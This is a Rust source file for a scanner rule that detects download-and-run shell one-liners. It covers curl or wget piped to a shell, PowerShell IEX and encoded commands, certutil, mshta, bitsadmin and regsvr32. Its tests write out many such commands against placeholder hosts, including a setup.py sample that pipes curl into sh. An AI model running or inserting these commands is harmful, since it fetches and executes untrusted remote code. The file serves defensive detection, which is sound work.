//! shell-downloader: download-and-run one-liners (`curl | sh`, PowerShell `IEX`/`-enc`/
//! `DownloadString`, `certutil -urlcache`, `mshta`, `bitsadmin`) in strings or scripts.

use std::sync::LazyLock;

use regex::RegexSet;

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::context::FileRole;
use crate::inspect::patterns::Keywords;
use crate::inspect::rules::{mark, string_marks};
use crate::inspect::{Emitter, FileCx, FileKind};

pub static INFO: RuleInfo = RuleInfo {
    id: "shell-downloader",
    severity: Severity::High,
    summary: "A shell one-liner downloads and runs code (curl|sh, PowerShell IEX, certutil...)",
    help: "Reports command strings that fetch content and execute it: curl/wget of a URL (or \
           a variable) piped into a \
           shell or Python, download-then-chmod-and-run, PowerShell Invoke-Expression with \
           DownloadString/Invoke-WebRequest or -EncodedCommand, certutil -urlcache, mshta with \
           a URL, bitsadmin /transfer, regsvr32 /i:http. In Python code these are critical at \
           install or import time and high elsewhere; in shipped shell/batch/PowerShell scripts \
           medium (high for Windows living-off-the-land tools), low in test and doc folders. \
           Installation instructions in documentation are not scanned.",
};

/// What a downloader fetches: a URL (with or without a scheme: `host.tld/path`, an IPv4
/// address), or a shell/batch/PowerShell variable holding one. Required so that a word list
/// mentioning `curl ... sh` or `iex ... irm` is not a command.
const TARGET: &str = r#"(['"(]?\s*(https?|ftp)://|\$\{?[A-Za-z_]|%[A-Za-z_]+%|[\s'"(][\w-]+(\.[\w-]+)+(:\d+)?/|[\s'"(@]\d{1,3}(\.\d{1,3}){3}\b)"#;

/// The patterns, as written for the Unicode build.
fn sources() -> Vec<String> {
    let t = TARGET;
    let web = r"(invoke-webrequest|\biwr|invoke-restmethod|\birm)";
    vec![
        format!(r"(?i)\b(curl|wget)\b[^|;\n]*{t}[^|;\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b"),
        format!(r"(?i)\b(curl|wget)\b[^|;\n]*{t}[^|;\n]*\|\s*(sudo\s+)?python[0-9.]*\b"),
        format!(
            r"(?i)\b(curl|wget)\b[^\n]*{t}[^\n]*(&&|;)\s*(chmod\s+[+0-7ux]+|\./|sh\s|bash\s|start\s)"
        ),
        r"(?i)powershell(\.exe)?\b[^\n]*\s-(e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}"
            .to_string(),
        format!(
            r"(?i)\b(iex|invoke-expression)\b[^\n]*(downloadstring\s*\(|downloaddata\s*\(|net\.webclient|{web}(\s+-\w+)*\s+{t})"
        ),
        format!(
            r"(?i)(downloadstring\s*\(|downloaddata\s*\(|{web}(\s+-\w+)*\s+{t})[^\n]*(\|\s*(iex|invoke-expression)\b|;\s*(iex|invoke-expression|start-process)\b)"
        ),
        format!(r"(?i)certutil(\.exe)?[^\n]*-urlcache[^\n]*{t}"),
        r"(?i)\bmshta(\.exe)?\s+\W?(https?|vbscript|javascript):".to_string(),
        format!(r"(?i)bitsadmin(\.exe)?[^\n]*/transfer[^\n]*{t}"),
        r"(?i)regsvr32(\.exe)?[^\n]*/i:\s*https?".to_string(),
        r"(?i)rundll32(\.exe)?[^\n]*javascript:".to_string(),
    ]
}

/// The Unicode build, for text that is not ASCII.
static PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| RegexSet::new(sources()).expect("regex"));

/// A byte-level ASCII build, for ASCII text (the same matches there; see
/// [`crate::inspect::patterns::AsciiRegex`]).
static PATTERNS_ASCII: LazyLock<regex::bytes::RegexSet> = LazyLock::new(|| {
    regex::bytes::RegexSet::new(sources().iter().map(|p| format!("(?-u){p}"))).expect("regex")
});

/// Words one of which a command must contain to be matched at all: the same test as the
/// regex `(?i)curl|wget|powershell|iex|invoke-|certutil|mshta|bitsadmin|regsvr32|rundll32|
/// downloadstring`.
pub(crate) const WORDS: &[&str] = &[
    "curl",
    "wget",
    "powershell",
    "iex",
    "invoke-",
    "certutil",
    "mshta",
    "bitsadmin",
    "regsvr32",
    "rundll32",
    "downloadstring",
];

static PREFILTER: Keywords = Keywords::one(WORDS);

/// Index of the matched pattern (0-based), if the text is a download-and-run one-liner.
pub fn matches(text: &str) -> Option<usize> {
    if text.len() > 100_000 || !PREFILTER.find_in(text) {
        return None;
    }
    pattern_index(text)
}

/// [`matches`] for a text known to have one of the [`WORDS`].
fn pattern_index(text: &str) -> Option<usize> {
    if text.len() > 100_000 {
        return None;
    }
    if text.is_ascii() {
        PATTERNS_ASCII.matches(text.as_bytes()).iter().next()
    } else {
        PATTERNS.matches(text).iter().next()
    }
}

fn windows_lolbin(idx: usize) -> bool {
    idx >= 3
}

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    if let Some(facts) = cx.facts {
        for (s, &m) in facts.strings.iter().zip(string_marks(cx)) {
            if m & mark::SHELL_DOWNLOADER != 0 && pattern_index(&s.text).is_some() {
                // A command that reaches a process or exec call (or was decoded from hiding)
                // is graded by where it runs; one only defined or returned (an install hint,
                // a command list a CLI builds for later) is low.
                let runs = s.decoded_via.is_some()
                    || s.note.is_some()
                    || crate::inspect::rules::string_reaches(facts, s, |c| {
                        c.is_process() || c.is_code_exec()
                    });
                let sev = if runs {
                    s.ctx.pick(Severity::Critical, Severity::High)
                } else {
                    Severity::Low
                };
                let decoded = s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref());
                out.emit(
                    &INFO,
                    sev,
                    Confidence::High,
                    s.line,
                    format!("download-and-run command {}", s.ctx.label()),
                    decoded,
                );
            }
        }
    }
    let script = cx.kind == FileKind::Script;
    // A line without any prefilter word cannot match; nor can a file without one.
    if (script || cx.raw_pass) && cx.text.is_some_and(|t| PREFILTER.find_in(t)) {
        for (n, line) in cx.text_lines() {
            let t = line.trim_start();
            if t.starts_with('#')
                || t.as_bytes()
                    .get(..4)
                    .is_some_and(|p| p.eq_ignore_ascii_case(b"rem "))
                || t.starts_with("::")
            {
                continue;
            }
            let Some(idx) = matches(line) else { continue };
            let sev = if cx.role == FileRole::Test {
                Severity::Low
            } else if !script {
                cx.top_ctx().pick(Severity::High, Severity::High)
            } else if windows_lolbin(idx) {
                Severity::High
            } else {
                Severity::Medium
            };
            out.emit(
                &INFO,
                sev,
                Confidence::Medium,
                n,
                "download-and-run command in a shipped script",
                None,
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::matches;

    #[test]
    fn prefilter_and_ascii_build_agree_with_the_unicode_regexes() {
        let pre = regex::Regex::new(
            r"(?i)curl|wget|powershell|iex|invoke-|certutil|mshta|bitsadmin|regsvr32|rundll32|downloadstring",
        )
        .unwrap();
        let reference = |t: &str| {
            if t.len() > 100_000 || !pre.is_match(t) {
                return None;
            }
            super::PATTERNS.matches(t).iter().next()
        };
        let mut fragments = super::WORDS.to_vec();
        fragments.extend([
            "curl -fsSL ",
            " | bash",
            "|sh",
            " | sudo python3",
            "wget -qO- ",
            " && chmod +x a",
            "; ./a",
            "powershell -enc ",
            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "IEX (New-Object Net.WebClient).DownloadString('",
            "iwr -Uri ",
            "irm $u",
            "certutil -urlcache -f ",
            "mshta ",
            "bitsadmin /transfer j ",
            "regsvr32 /i:http",
            "rundll32 javascript:",
            "$URL",
            "%TEMP%",
            "get.example.invalid/i.sh",
            "downloaddata(",
            "; start-process a",
        ]);
        for s in crate::inspect::patterns::test_corpus(&fragments, 20_000) {
            assert_eq!(matches(&s), reference(&s), "{s:?}");
        }
    }
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn patterns() {
        assert!(matches("curl -fsSL https://x.example.invalid/i.sh | bash").is_some());
        assert!(matches("wget -qO- http://192.0.2.1/a | sudo sh").is_some());
        assert!(matches("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA").is_some());
        assert!(matches(
            "IEX (New-Object Net.WebClient).DownloadString('http://x.example.invalid')"
        )
        .is_some());
        assert!(
            matches("certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe").is_some()
        );
        assert!(matches("curl -o /tmp/a http://x.example.invalid/a && chmod +x /tmp/a").is_some());
        assert!(matches("curl --version").is_none());
        assert!(matches("git log | sh-like").is_none());
        assert!(matches("pip install wget").is_none());
    }

    #[test]
    fn python_string_at_install_is_critical() {
        let src = "import os\nos.system('curl https://x.example.invalid/s | sh')\n";
        assert_eq!(
            worst("shell-downloader", "pkg-1.0/setup.py", src),
            Some(Severity::Critical)
        );
        assert_eq!(
            worst("shell-downloader", "pkg/tests/test_x.py", src),
            Some(Severity::Low)
        );
    }

    #[test]
    fn scripts_and_docstrings() {
        assert_eq!(
            worst(
                "shell-downloader",
                "pkg-1.0/get.sh",
                "#!/bin/sh\ncurl https://x.example.invalid | sh\n"
            ),
            Some(Severity::Medium)
        );
        assert_eq!(
            worst(
                "shell-downloader",
                "pkg-1.0/get.sh",
                "#!/bin/sh\n# curl https://x.example.invalid | sh\n"
            ),
            None
        );
        let doc = "def f():\n    \"\"\"Install with: curl https://example.invalid | sh\"\"\"\n";
        assert_eq!(worst("shell-downloader", "pkg/a.py", doc), None);
    }

    #[test]
    fn pygments_keyword_list_is_not_a_shell_downloader() {
        // pygments/lexers/shell.py: PowerShell aliases, one implicitly concatenated literal.
        let aliases = "ac asnp cat cd cfs chdir clc clear clhy cli clp cls clv cnsn compare copy \
                       cp cpi cpp curl cvpa dbp del diff dir dnsn ebp echo epal gwmi h history \
                       icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp ls man md \
                       set shcm si sl sleep sls sort sp start sujb sv swmi tee trcm type wget \
                       where wjb write";
        assert_eq!(matches(aliases), None);
        let words = "curl | sh; wget -O out && chmod +x ; iex | iwr";
        assert_eq!(matches(words), None);
        let src = format!("aliases_ = ('{aliases}').split()\n");
        assert_eq!(
            worst("shell-downloader", "pygments/lexers/shell.py", &src),
            None
        );
    }

    #[test]
    fn real_one_liners_with_url_or_variable_still_match() {
        assert!(matches("curl -s \"$URL\" | sh").is_some());
        assert!(matches("wget -O- ${SRC}/i.sh | bash").is_some());
        assert!(matches("iwr -Uri http://x.example.invalid/a.ps1 | iex").is_some());
        assert!(matches("IEX (iwr 'http://x.example.invalid/a.ps1')").is_some());
        assert!(matches("irm $u | iex").is_some());
        assert!(matches("iwr -UseBasicParsing -Uri http://x.example.invalid/a | iex").is_some());
        assert!(matches(
            "bitsadmin /transfer j /download /priority high http://x.example.invalid/a.exe %TEMP%\\a.exe"
        )
        .is_some());
        assert!(matches("mshta http://x.example.invalid/a.hta").is_some());
        assert!(matches("certutil -urlcache -f %URL% a.exe && a.exe").is_some());
        // No scheme: a host with a path, or a bare IPv4 address.
        assert!(matches("curl -s get.example.invalid/i.sh | bash").is_some());
        assert!(matches("wget -qO- 192.0.2.7 | sh").is_some());
        assert!(matches("curl -sL 192.0.2.7:8080/x|python3").is_some());
    }
}
